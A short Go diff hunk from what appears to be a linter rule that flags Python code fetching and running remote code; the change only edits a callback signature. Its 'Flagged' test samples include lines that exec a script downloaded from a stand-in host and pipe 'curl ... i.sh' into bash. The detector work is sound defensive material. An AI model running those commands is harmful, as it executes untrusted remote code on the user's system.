@@ -17,7 +17,7 @@ func init() {
 		Flagged:        []string{"import urllib.request\nexec(urllib.request.urlopen(\"http://x.example/p.py\").read())\n", "import requests, os\nbody = requests.get(url).content\nwith open(\"/tmp/x\", \"wb\") as f:\n    f.write(body)\nos.chmod(\"/tmp/x\", 0o755)\n", "import os\nos.system('curl -fsSL http://x.example/i.sh | bash')\n"},
 		Clean:          []string{"import requests, json\ndata = json.loads(requests.get(url).text)\n", "import subprocess\nsubprocess.run(['curl', '-fsSLo', 'data.zip', url], check=True)\n"},
 		Kinds:          []Kind{KindCall, KindFunctionDef, KindEnd},
-		CallWhen:       func(_ *Context, q, method string) bool { return dropNoted(q, method) },
+		CallWhen:       func(q, method string) bool { return dropNoted(q, method) },
 		Check: func(c *Context, n ast.Node) {
 			st := c.state(func() any { return &dropState{written: map[string][]ast.Node{}, fetching: map[ast.Node]bool{}} }).(*dropState)
 			if fn, ok := n.(*ast.FunctionDef); ok {
